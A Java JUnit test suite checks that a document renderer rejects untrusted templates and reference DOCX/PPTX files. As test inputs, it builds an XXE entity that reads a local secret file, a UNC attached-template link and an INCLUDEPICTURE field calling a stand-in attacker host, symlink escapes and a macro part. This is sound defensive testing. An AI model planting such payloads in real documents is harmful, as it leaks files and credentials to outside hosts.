package se.vp.render;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import se.vp.diagnostic.Code;
import se.vp.diagnostic.VpException;
import se.vp.render.pptx.PptxWriter;
import se.vp.render.webb.WebWriter;
import se.vp.render.word.DocxWriter;
import se.vp.render.word.ReferenceCleanerTest;

/**
 * Templates and the reference document come from pull requests: nothing in them may run code,
 * read a file or reach the network, and text from the plan is text in every format. Faults along
 * the way leave output/ as it was.
 */
class UntrustedInputTest {

  private static final String SECRET = "HEMLIGT-4711";

  @TempDir Path folder;
  @TempDir Path outside;
  RenderProject project;
  Path secret;

  @BeforeEach
  void createProjectAndASecretOutsideIt() throws IOException {
    project = RenderProject.create(folder);
    secret = outside.resolve("hemlig.css");
    Files.writeString(secret, "body { color: red; } /* " + SECRET + " */");
  }

  private VpException failure(String template, String from, String to) throws IOException {
    project.edit("templates/" + template, from, to);
    return assertThrows(VpException.class, project::render);
  }

  @Test
  void reachesNoServerForAnImageInATemplate() throws Exception {
    try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
      AtomicInteger connections = new AtomicInteger();
      Thread listener = new Thread(() -> {
        try {
          server.setSoTimeout(20_000);
          server.accept().close();
          connections.incrementAndGet();
        } catch (SocketTimeoutException e) {
          // Nobody came, as it should be.
        } catch (IOException e) {
          // Closed when the test ends.
        }
      });
      listener.start();
      String url = "http://127.0.0.1:" + server.getLocalPort() + "/logo.png";
      VpException e = failure("sammanstallning.ftlx", "<h1>", "<img src=\"" + url + "\" alt=\"logotyp\"/><h1>");
      assertEquals(Code.VP302, e.diagnostic().code());
      assertTrue(e.diagnostic().message().startsWith("mallen hämtar " + url), e.diagnostic().message());
      assertEquals(0, connections.get());
      project.assertOutputUntouched();
    }
  }

  @Test
  void loadsNoFontFromOutsideTemplates() throws IOException {
    VpException e = failure("bildspel.ftlx", "<link rel=\"stylesheet\" href=\"tema.css\"/>",
        "<link rel=\"stylesheet\" href=\"tema.css\"/><style>@font-face { font-family: 'Ute'; src: url("
            + secret.toUri() + "); } h1 { font-family: 'Ute'; }</style>");
    assertEquals(Code.VP302, e.diagnostic().code());
    project.assertOutputUntouched();
  }

  @Test
  void followsNoLinkFromTemplatesToAStylesheetOutside() throws IOException {
    Files.createSymbolicLink(project.templates.resolve("ut.css"), secret);
    VpException e = failure("bildspel.ftlx", "<link rel=\"stylesheet\" href=\"tema.css\"/>",
        "<link rel=\"stylesheet\" href=\"tema.css\"/><link rel=\"stylesheet\" href=\"ut.css\"/>");
    assertEquals(Code.VP302, e.diagnostic().code());
    project.assertOutputUntouched();
  }

  /** The web edition copies its stylesheet into output/webb/: through a link it would publish the file linked to. */
  @Test
  void followsNoLinkToAWebStylesheetOutside() throws IOException {
    Path stylesheet = project.templates.resolve(WebWriter.STYLESHEET);
    Files.delete(stylesheet);
    Files.createSymbolicLink(stylesheet, secret);
    VpException e = assertThrows(VpException.class, project::render);
    assertEquals("templates/webb.css: fel: webbutgåvans stilmall är en symbolisk länk, och länkar i templates/ följs"
        + " inte – lägg stilmallen själv i templates/ [VP302]", e.diagnostic().format());
    project.assertOutputUntouched();
  }

  @Test
  void refusesAWebStylesheetLargerThanAnySiteNeeds() throws IOException {
    try (RandomAccessFile file = new RandomAccessFile(project.templates.resolve(WebWriter.STYLESHEET).toFile(), "rw")) {
      file.setLength(WebWriter.MAX_STYLESHEET_BYTES + 1L);
    }
    VpException e = assertThrows(VpException.class, project::render);
    assertEquals(Code.VP303, e.diagnostic().code());
    assertEquals("webbutgåvans stilmall är större än 1 MiB", e.diagnostic().message());
    project.assertOutputUntouched();
  }

  @Test
  void followsNoLinkFromTemplatesToATemplateOutside() throws IOException {
    Path template = outside.resolve("del.ftlx");
    Files.writeString(template, "<p>" + SECRET + "</p>");
    Files.createSymbolicLink(project.templates.resolve("del.ftlx"), template);
    VpException e = failure("bildspel.ftlx", "<body>", "<body><#include \"del.ftlx\">");
    assertEquals("templates/bildspel.ftlx: fel: mallen tar in en fil som via en länk ligger utanför templates/"
        + " – lägg filen själv i templates/ [VP302]", e.diagnostic().format());
    project.assertOutputUntouched();
  }

  @Test
  void readsNoEntityInTheReferenceDocument() throws IOException {
    Path reference = project.templates.resolve(DocxWriter.REFERENCE);
    byte[] original = Files.readAllBytes(reference);
    Files.write(reference, withEntity(original, "word/styles.xml", secret));
    VpException e = assertThrows(VpException.class, project::render);
    assertEquals("templates/referens.docx: fel: referensdokumentet kan inte användas: word/styles.xml är inte giltig XML"
        + " (DOCTYPE och entiteter tillåts inte) [VP303]", e.diagnostic().format());
    project.assertOutputUntouched();
  }

  @Test
  void takesOnlyTheLookFromAReferenceDocumentAndSaysWhatItLeftOut() throws Exception {
    var parts = ReferenceCleanerTest.committed();
    ReferenceCleanerTest.relate(parts, "word/_rels/document.xml.rels", "rId30", "attachedTemplate",
        "\\\\angripare\\dela\\mall.dotm", true);
    ReferenceCleanerTest.edit(parts, "word/footer1.xml", "</w:p>", "<w:fldSimple w:instr=\" INCLUDEPICTURE"
        + " &quot;https://angripare.example/spår.png&quot; \"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>");
    Files.write(project.templates.resolve(DocxWriter.REFERENCE), ReferenceCleanerTest.zip(parts));

    RenderResult result = project.render();

    List<String> findings = result.findings().stream().filter(d -> d.code() == Code.VP310).map(d -> d.location() + ": "
        + d.message()).toList();
    assertEquals(List.of("templates/referens.docx: referensdokumentet bär en länk ut ur dokumentet, till"
        + " \\\\angripare\\dela\\mall.dotm (den bifogade dokumentmallen), som vp tog bort"
        + " ur handlingarna",
        "templates/referens.docx: referensdokumentet bär fältet INCLUDEPICTURE, som vp tog bort ur handlingarna"),
        findings);
    for (String docx : List.of("beslutsunderlag.docx", "sammanstallning.docx")) {
      try (ZipInputStream zip = new ZipInputStream(Files.newInputStream(project.output.resolve(docx)))) {
        for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
          String part = new String(zip.readAllBytes(), StandardCharsets.UTF_8);
          assertFalse(part.contains("angripare") || part.contains("INCLUDEPICTURE") || part.contains("External"),
              docx + " " + entry.getName() + ": " + part);
        }
      }
    }
  }

  @Test
  void followsNoLinkToAReferenceDocumentOutside() throws IOException {
    Path reference = project.templates.resolve(DocxWriter.REFERENCE);
    Files.move(reference, outside.resolve(DocxWriter.REFERENCE));
    Files.createSymbolicLink(reference, outside.resolve(DocxWriter.REFERENCE));
    VpException e = assertThrows(VpException.class, project::render);
    assertEquals("templates/referens.docx: fel: referensdokumentet är en symbolisk länk, och länkar i templates/ följs"
        + " inte – lägg dokumentet självt i templates/ [VP302]", e.diagnostic().format());
    project.assertOutputUntouched();
  }

  /**
   * A reference presentation from a pull request with a slide of its own, a link out of the file on
   * the master and macros: the deck keeps only the master and its layouts, and says what it left out.
   */
  @Test
  void takesOnlyTheMasterAndLayoutsFromAReferencePresentationAndSaysWhatItLeftOut() throws Exception {
    var parts = ReferenceCleanerTest.committed(Path.of("templates", PptxWriter.REFERENCE));
    parts.put("ppt/slides/slide1.xml", "<p:sld xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\""
        + " xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\"><p:cSld><p:spTree><p:nvGrpSpPr>"
        + "<p:cNvPr id=\"1\" name=\"\"/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/></p:spTree></p:cSld>"
        + "<!-- " + SECRET + " --></p:sld>");
    ReferenceCleanerTest.relate(parts, "ppt/_rels/presentation.xml.rels", "rId40", "slide", "slides/slide1.xml", false);
    ReferenceCleanerTest.edit(parts, "ppt/presentation.xml", "<p:sldSz", "<p:sldIdLst><p:sldId id=\"256\""
        + " r:id=\"rId40\"/></p:sldIdLst><p:sldSz");
    ReferenceCleanerTest.relate(parts, "ppt/slideMasters/_rels/slideMaster1.xml.rels", "rId40", "hyperlink",
        "https://angripare.example/spår", true);
    ReferenceCleanerTest.relate(parts, "ppt/_rels/presentation.xml.rels", "rId41", "vbaProject", "vbaProject.bin",
        false);
    parts.put("ppt/vbaProject.bin", SECRET);
    Files.write(project.templates.resolve(PptxWriter.REFERENCE), ReferenceCleanerTest.zip(parts));

    RenderResult result = project.render();

    List<String> findings = result.findings().stream().filter(d -> d.code() == Code.VP310).map(d -> d.location() + ": "
        + d.message()).toList();
    assertEquals(List.of("templates/referens.pptx: referenspresentationen bär en länk ut ur dokumentet, till"
        + " https://angripare.example/spår, som vp tog bort ur bildspelet",
        "templates/referens.pptx: referenspresentationen bär makron, som vp tog bort ur bildspelet"), findings);
    String deck = String.join("\n", ReferenceCleanerTest.committed(project.output.resolve("bildspel.pptx")).values());
    assertFalse(deck.contains("angripare") || deck.contains(SECRET) || deck.contains("External")
        || deck.contains("vbaProject"), "bildspel.pptx");
    try (PDDocument pdf = Loader.loadPDF(project.output.resolve("bildspel.pdf").toFile())) {
      assertEquals(pdf.getNumberOfPages(), ReferenceCleanerTest.committed(project.output.resolve("bildspel.pptx"))
          .keySet().stream().filter(name -> name.matches("ppt/slides/slide\\d+\\.xml")).count());
    }
  }

  @Test
  void refusesAReferencePresentationWithoutALayoutTheDeckUses() throws IOException {
    var parts = ReferenceCleanerTest.committed(Path.of("templates", PptxWriter.REFERENCE));
    String layout = parts.keySet().stream().filter(name -> parts.get(name).contains("<p:cSld name=\"Tabell\">"))
        .findFirst().orElseThrow();
    ReferenceCleanerTest.edit(parts, layout, "<p:cSld name=\"Tabell\">", "<p:cSld name=\"Tabeller\">");
    Files.write(project.templates.resolve(PptxWriter.REFERENCE), ReferenceCleanerTest.zip(parts));
    VpException e = assertThrows(VpException.class, project::render);
    assertEquals("templates/referens.pptx: fel: referenspresentationen saknar layouten \"Tabell\" – lägg till den i"
        + " bildbakgrunden (Visa › Bildbakgrund), med de platshållare vp:s referens.pptx har, eller utgå från vp:s"
        + " referens.pptx [VP303]", e.diagnostic().format());
    project.assertOutputUntouched();
  }

  @Test
  void followsNoLinkToAReferencePresentationOutside() throws IOException {
    Path reference = project.templates.resolve(PptxWriter.REFERENCE);
    Files.move(reference, outside.resolve(PptxWriter.REFERENCE));
    Files.createSymbolicLink(reference, outside.resolve(PptxWriter.REFERENCE));
    VpException e = assertThrows(VpException.class, project::render);
    assertEquals("templates/referens.pptx: fel: referenspresentationen är en symbolisk länk, och länkar i templates/"
        + " följs inte – lägg presentationen själv i templates/ [VP302]", e.diagnostic().format());
    project.assertOutputUntouched();
  }

  @Test
  void writesTextFromThePlanAsTextInEveryFormat() throws Exception {
    String text = "Att <b>granska</b> & ${dokument.titel} <w:p/> ]]> \"citat\" 'apostrof'.";
    project.edit("plan-source/uppdrag/unga-entreprenorskap.yaml",
        "text: Att öka samverkan med länets aktörer för att stärka ungas entreprenörskap.",
        "text: \"" + text.replace("\"", "\\\"") + "\"");
    project.render();
    try (PDDocument pdf = Loader.loadPDF(project.output.resolve("beslutsunderlag.pdf").toFile())) {
      assertTrue(RenderTest.normalize(ReadingOrder.text(pdf)).contains(text), "PDF");
    }
    String document = zipEntry(project.output.resolve("beslutsunderlag.docx"), "word/document.xml");
    assertTrue(document.contains("Att &lt;b&gt;granska&lt;/b&gt; &amp; ${dokument.titel} &lt;w:p/&gt; ]]&gt;"), "DOCX");
    org.jsoup.nodes.Document page = org.jsoup.Jsoup.parse(
        project.output.resolve("webb/fokusomrade-4-1-1.html").toFile(), "UTF-8");
    assertTrue(page.selectFirst("main").text().contains(text), "web edition");
    assertEquals(0, page.select("main b").size(), "web edition");
  }

  @Test
  void cleansUpAfterARenderThatWasStopped() throws Exception {
    Path stale = project.output.resolve(".vp-ny-12345");
    Files.createDirectories(stale);
    Files.writeString(stale.resolve("bildspel.pdf"), "halvfärdig");
    project.render();
    try (Stream<Path> files = Files.list(project.output)) {
      assertTrue(files.noneMatch(f -> f.getFileName().toString().startsWith(".vp-ny-")));
    }
    assertTrue(Files.size(project.output.resolve("bildspel.pdf")) > 100_000);
  }

  @Test
  void saysSoWhenOutputIsAFile() throws IOException {
    Files.delete(project.output.resolve("bildspel.pdf"));
    Files.delete(project.output);
    Files.writeString(project.output, "en fil där mappen ska vara");
    VpException e = assertThrows(VpException.class, project::render);
    assertEquals(Code.VP309, e.diagnostic().code());
    assertEquals("output är ingen mapp", e.diagnostic().message());
    assertEquals("en fil där mappen ska vara", Files.readString(project.output));
  }

  @Test
  void putsEverythingBackWhenAFileCannotBeMovedIn() throws IOException {
    VpException e = assertThrows(VpException.class, () -> Renders.render(
        new RenderRequest(project.planSource, project.templates, project.output, project.root, false, Optional.empty()),
        (from, to) -> {
          if (to.getFileName().toString().equals("sammanstallning.docx")) {
            throw new IOException("disken är full");
          }
          OutputFolder.RENAME.move(from, to);
        }));
    assertEquals(Code.VP304, e.diagnostic().code());
    project.assertOutputUntouched();
  }

  private static byte[] withEntity(byte[] docx, String part, Path file) throws IOException {
    java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
    try (ZipInputStream in = new ZipInputStream(new java.io.ByteArrayInputStream(docx));
        ZipOutputStream zip = new ZipOutputStream(out)) {
      for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
        byte[] bytes = in.readAllBytes();
        if (entry.getName().equals(part)) {
          String xml = new String(bytes, StandardCharsets.UTF_8);
          xml = xml.replaceFirst("\\?>", "?>\n<!DOCTYPE w:styles [<!ENTITY x SYSTEM \"" + file.toUri() + "\">]>")
              .replace("<w:name w:val=\"Ingress\"/>", "<w:name w:val=\"Ingress &x;\"/>");
          bytes = xml.getBytes(StandardCharsets.UTF_8);
        }
        zip.putNextEntry(new ZipEntry(entry.getName()));
        zip.write(bytes);
        zip.closeEntry();
      }
    }
    return out.toByteArray();
  }

  static String zipEntry(Path zip, String name) throws IOException {
    try (ZipInputStream in = new ZipInputStream(Files.newInputStream(zip))) {
      for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
        if (entry.getName().equals(name)) {
          return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
      }
    }
    throw new AssertionError(name + " is not in " + zip);
  }

}
